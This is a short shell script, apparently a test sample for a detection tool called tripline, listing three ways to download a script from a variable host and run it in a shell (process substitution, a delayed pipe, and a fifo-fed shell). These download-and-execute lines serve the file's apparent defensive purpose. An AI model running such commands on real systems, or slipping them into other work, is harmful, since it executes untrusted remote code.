# SPDX-License-Identifier: GPL-2.0-or-later
# Copyright (C) 2026 The tripline authors
# A download as the script of a shell, as the input of a shell, and the latter with the shell started first.
bash -c 'bash <(curl -s "http://$0/setup.sh"); true' "$REMOTE"
curl -s "http://$REMOTE/setup.sh" | { sleep 0.2; sh; }
mkfifo pipe
exec 3<>pipe
sh <&3 3<&- &
sleep 0.2
wget -q -O - "http://$REMOTE/setup.sh" >&3
echo exit >&3
wait
